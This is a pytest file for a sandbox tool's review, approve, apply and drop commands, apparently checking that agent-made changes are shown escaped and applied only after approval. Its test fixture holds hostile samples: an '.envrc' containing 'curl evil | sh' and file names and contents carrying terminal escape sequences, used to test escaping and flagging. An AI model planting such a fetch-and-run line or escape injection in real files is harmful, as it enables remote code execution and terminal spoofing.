"""The verbs review, approve, apply and drop as a person or a program calls them."""

import json
import os
import pickle
import subprocess
import sys
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
import typer
from typer.testing import CliRunner, Result

from tests import terminals
from tests.adapter.crafted import BASE, RESULT, Case, Files
from tests.repositories import fingerprint
from tests.warm import WarmState
from vmsandbox.cli import review as verbs
from vmsandbox.cli.output import Output
from vmsandbox.errors import VmsandboxError
from vmsandbox.model import (
    AgentCommit,
    ExecResult,
    Failure,
    Outcome,
    ResultState,
    SandboxState,
)
from vmsandbox.review import present
from vmsandbox.store import locked, write_value

ID = "ab12cd34"
EVIL: Files = {
    **RESULT,
    b"\x1b[2J\nname": b"\x1b]0;owned\x07text\r\n[bold red]markup[/]\n",
    b".envrc": b"curl evil | sh\n",
    b"big.bin": bytes(range(256)) * 20,
}


@pytest.fixture
def case(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Case:
    state = tmp_path / "state"
    monkeypatch.setenv("VMSANDBOX_HOME", str(state))
    made = Case(tmp_path / "host", BASE, EVIL, sandbox=state / "sandboxes" / ID)
    made.folder.stdout.write_text("output\n")
    return made


def call(*arguments: str | Path) -> Result:
    app = typer.Typer()
    verbs.register(app)
    return CliRunner().invoke(app, [str(argument) for argument in arguments])


def text(*arguments: str | Path) -> str:
    result = call(*arguments)
    assert result.exit_code == 0, result.exception
    return result.stdout


def data(*arguments: str | Path) -> Any:
    document = json.loads(text(*arguments, "--json"))
    assert document["schema"] == 1
    return document["data"]


def refusal(*arguments: str | Path) -> VmsandboxError:
    result = call(*arguments)
    assert isinstance(result.exception, VmsandboxError), result.output
    return result.exception


# --- review ---------------------------------------------------------------------------------------


def test_review_says_all_that_a_decision_rests_on(case: Case) -> None:
    record = case.folder.read_record()
    ended = ExecResult(exit_code=3, outcome=Outcome.FAILED, detail="\x1b[31mdetail")
    write_value(case.folder.record, record.model_copy(update={"exec_result": ended}))
    commit = AgentCommit(oid="c" * 40, subject="fix \x1b[0m [red]it[/red]")
    present(case.folder, case.change_set.model_copy(update={"agent_commits": (commit,)}))
    shown = text("review", ID)
    for wanted in (
        "failed, exit code 3",
        case.change_set.digest,
        "debian-12  sha256:1111",
        "1 CPU, 1024 MiB memory, 20480 MiB disk, no time limit",
        "12 paths, +8 -11 lines",
        "R move/me.txt -> moved/me.txt  100644  +0 -0",
        "M src/deep/c.py  100644 -> 100755  +0 -0  [executable]",
        "A .envrc  100644  +1 -0  [runs-shell]",
        "A big.bin  100644  5.0 KiB  [binary]",
        'A "\\033[2J\\nname"  100644',
        "[link] a symbolic link",
        "cccccccccccc fix \\x1b[0m [red]it[/red]",
        f"stdout     {case.folder.stdout}",
        "vmsandbox approve crafted --digest",
        "vmsandbox drop crafted",
    ):
        assert wanted in shown
    assert "\x1b" not in shown


def test_an_exit_code_is_said_once_and_a_command_as_it_was_given(case: Case) -> None:
    record = case.folder.read_record()
    ended = ExecResult(exit_code=3, outcome=Outcome.FAILED, detail="exit code 3")
    task = record.task.model_copy(update={"command": ("sh", "-c", "make; exit 3")})
    changed = record.model_copy(update={"exec_result": ended, "task": task})
    write_value(case.folder.record, changed)
    lines = text("review", ID).splitlines()
    assert "outcome    failed, exit code 3" in [line.rstrip() for line in lines]
    assert "command    sh -c 'make; exit 3'" in [line.rstrip() for line in lines]


def test_review_as_data_has_the_same(case: Case) -> None:
    found = data("review", ID)
    assert found["id"] == ID
    assert found["result"]["state"] == "pending"
    assert found["result"]["digest"] == case.change_set.digest
    assert found["totals"]["paths"] == len(found["changes"]) == 12
    rename = next(change for change in found["changes"] if change["kind"] == "R")
    assert (rename["old_path"], rename["path"]) == ("move/me.txt", "moved/me.txt")
    assert rename["new_mode"] == "100644"
    assert found["flags"]["executable"]
    assert found["evidence"]["stdout"] == str(case.folder.stdout)
    assert found["conflicts"] == []


def test_the_diff_is_bounded_and_escaped(case: Case) -> None:
    shown = text("review", ID, "--diff")
    assert "+a = 2" in shown
    assert "\x1b" not in shown
    assert "\r" not in shown
    assert "\\x1b]0;owned\\x07text\\x0d" in shown
    assert "[bold red]markup[/]" in shown
    cut = text("review", ID, "--diff", "--max-bytes", "100")
    assert "cut after 100 B" in cut
    found = data("review", ID, "--diff", "--max-bytes", "100")
    assert found["diff_truncated"]
    assert len(found["diff"]) == 100


def test_what_the_locale_cannot_encode_is_escaped(case: Case) -> None:
    """It ended in a traceback, also after all had been applied."""
    case.collect({**BASE, "é漢".encode(): "漢\n".encode()})
    for words in (("review", ID, "--diff"), ("apply", ID, "--yes")):
        done = subprocess.run(
            [sys.executable, "-m", "vmsandbox", *words],
            env={**os.environ, "PYTHONIOENCODING": "latin-1"},
            capture_output=True,
        )
        assert done.returncode == 0, done.stderr
        assert "é\\u6f22".encode("latin-1") in done.stdout


def test_the_diff_can_be_narrowed_to_paths(case: Case) -> None:
    found = data("review", ID, "--diff", "--path", "src")
    assert found["diff"].count("diff --git") == 3
    absolute = data("review", ID, "--diff", "--path", case.target / "src/a.py")
    assert absolute["diff"].count("diff --git") == 1
    quoted = data("review", ID, "--diff", "--path", '"\\033[2J\\nname"')
    assert quoted["diff"].count("diff --git") == 1
    assert refusal("review", ID, "--diff", "--path", "nowhere").code == "path_unmatched"


def test_stat_lists_every_change_and_nothing_else(case: Case) -> None:
    case.collect({b"f%d" % number: b"x" for number in range(300)})
    assert "more: --stat" in text("review", ID)
    stat = text("review", ID, "--stat")
    assert stat.count("  A f") == 300
    assert "evidence" not in stat


def test_review_names_what_would_conflict_now(case: Case) -> None:
    (case.target / "README").write_text("mine\n")
    assert "README: edited in the target" in text("review", ID)
    (conflict,) = data("review", ID)["conflicts"]
    assert (conflict["path"], conflict["kind"]) == ("README", "content")


def test_review_of_a_task_without_a_result_shows_the_rest(case: Case) -> None:
    case.folder.change_set.unlink()
    shown = text("review", ID)
    assert "no result was collected" in shown
    assert "stdout" in shown
    assert data("review", ID)["result"]["state"] == "none"


def test_why_a_sandbox_failed_may_quote_a_hostile_guest(case: Case) -> None:
    """Its SSH server's greeting, for one."""
    case.folder.change_set.unlink()
    failure = Failure(code="boot_timeout", message="Incompatible version (\x1b]0;owned\x07)")
    record = case.folder.read_record().model_copy(update={"failure": failure})
    write_value(case.folder.record, record)
    assert r"Incompatible version (\x1b]0;owned\x07)" in text("review", ID)


def test_review_says_when_the_target_is_gone(case: Case, tmp_path: Path) -> None:
    case.target.rename(tmp_path / "elsewhere")
    assert "no folder to write to" in text("review", ID)
    shown = data("review", ID, "--target", tmp_path / "elsewhere")
    assert shown["problems"] == []


# --- approve, apply, drop -------------------------------------------------------------------------


def test_approve_then_apply(case: Case) -> None:
    digest = case.change_set.digest
    assert digest in text("approve", ID, "--digest", digest[7:31])
    assert data("review", ID)["result"]["state"] == "approved"
    done = data("apply", ID)
    assert done["state"] == "applied"
    assert len(done["written"]) == 13
    assert case.content() == EVIL
    assert "wrote 0 paths" in text("apply", ID)


def test_yes_approves_and_applies_without_a_terminal(case: Case) -> None:
    before = fingerprint(case.target)
    assert refusal("apply", ID).code == "not_approved"
    assert fingerprint(case.target) == before
    done = data("apply", ID, "--yes", "--path", "src", "--exclude", "*.md")
    assert done["remaining"] == 10
    assert data("review", ID)["result"]["state"] == "pending"
    text("apply", ID, "--yes", "--all")
    assert case.content() == EVIL


def test_all_goes_beyond_what_is_approved_and_is_refused(case: Case) -> None:
    text("approve", ID, "--include", "*.py")
    assert refusal("apply", ID, "--all").code == "not_approved"
    assert len(data("apply", ID)["written"]) == 3


def test_a_conflict_names_every_path(case: Case, capsys: pytest.CaptureFixture[str]) -> None:
    (case.target / "README").write_text("mine\n")
    error = refusal("apply", ID, "--yes")
    assert error.code == "apply_conflict"
    assert error.exit_code == 1
    assert "README: edited" in error.message
    (conflict,) = pickle.loads(pickle.dumps(error)).conflicts
    Output(as_json=True).error(error)
    told = json.loads(capsys.readouterr().out)["error"]["data"]["conflicts"]
    assert told == [{"path": "README", "kind": "content", "what": conflict.what}]


def test_drop_and_then_nothing_more(case: Case) -> None:
    assert "nothing will be written" in text("drop", ID)
    assert refusal("apply", ID, "--yes").code == "result_dropped"
    assert data("drop", ID)["result"]["state"] == "dropped"


@pytest.mark.parametrize(
    ("state", "managed", "live"),
    [
        (SandboxState.RUNNING, True, True),
        (SandboxState.COLLECTING, True, True),
        (SandboxState.READY, True, False),
        (SandboxState.STOPPED, False, False),
        (SandboxState.FAILED, False, False),
    ],
)
def test_a_live_task_is_one_that_still_works(
    case: Case, state: SandboxState, managed: bool, live: bool
) -> None:
    record = case.folder.read_record()
    write_value(case.folder.record, record.model_copy(update={"state": state}))

    def verdicts() -> Iterator[str]:
        for verb in (["apply", ID, "--yes"], ["drop", ID]):
            result = call(*verb)
            yield getattr(result.exception, "code", "done")

    if managed:
        with locked(case.folder.manager_lock):
            found = list(verdicts())
    else:
        found = list(verdicts())
    assert found == (["task_live"] * 2 if live else ["done", "already_applied"])


# --- on a terminal --------------------------------------------------------------------------------


def on_a_terminal(answers: list[str], *arguments: str) -> tuple[int, str]:
    return terminals.on_a_terminal("Yes/No/View [No]: ", answers, *arguments)


def test_on_a_terminal_yes_approves_and_applies(case: Case) -> None:
    code, seen = on_a_terminal(["yes"], "apply", ID)
    assert code == 0, seen
    assert f"Apply 13 changed paths to {case.target}?" in seen
    assert ".envrc" in seen.split("Apply 13")[0]
    assert case.content() == EVIL
    assert case.record.decisions[0].digest == case.change_set.digest


@pytest.mark.parametrize("answers", [[""], ["maybe", "N"]])
def test_on_a_terminal_anything_but_yes_writes_nothing(case: Case, answers: list[str]) -> None:
    before = fingerprint(case.target)
    code, seen = on_a_terminal(answers, "apply", ID)
    assert code == 1
    assert "nothing was written" in seen
    assert fingerprint(case.target) == before
    assert case.record.state is ResultState.PENDING
    assert case.record.decisions == ()


def test_on_a_terminal_view_shows_the_differences_and_asks_again(case: Case) -> None:
    code, seen = on_a_terminal(["v", "y"], "apply", ID, "--path", "README")
    assert code == 0
    assert "+world" in seen
    assert "+a = 2" not in seen
    assert "\x1b]0;owned" not in seen
    assert case.content()[b"README"] == b"hello\nworld\n"
    assert case.record.state is ResultState.PENDING


def test_on_a_terminal_an_approval_that_is_there_is_not_asked_for_again(case: Case) -> None:
    text("approve", ID)
    code, seen = on_a_terminal([], "apply", ID)
    assert code == 0, seen


def test_on_a_terminal_a_stale_approval_is_asked_for_anew(case: Case) -> None:
    text("approve", ID)
    case.collect(RESULT)
    code, seen = on_a_terminal(["y"], "apply", ID)
    assert code == 0, seen
    assert case.content() == RESULT


# --- the program ----------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("arguments", "code", "error"),
    [
        (("apply", ID), 5, "not_approved"),
        (("apply", ID, "--yes", "--target", "/nowhere"), 2, "target_missing"),
    ],
)
def test_every_refusal_has_its_exit_code(
    case: Case, arguments: tuple[str, ...], code: int, error: str
) -> None:
    answer = WarmState(case.folder.path.parents[1])(*arguments, "--json")
    assert (answer.code, answer.error["code"]) == (code, error)
    assert f"[{error}]" in answer.err
    assert case.content() == BASE
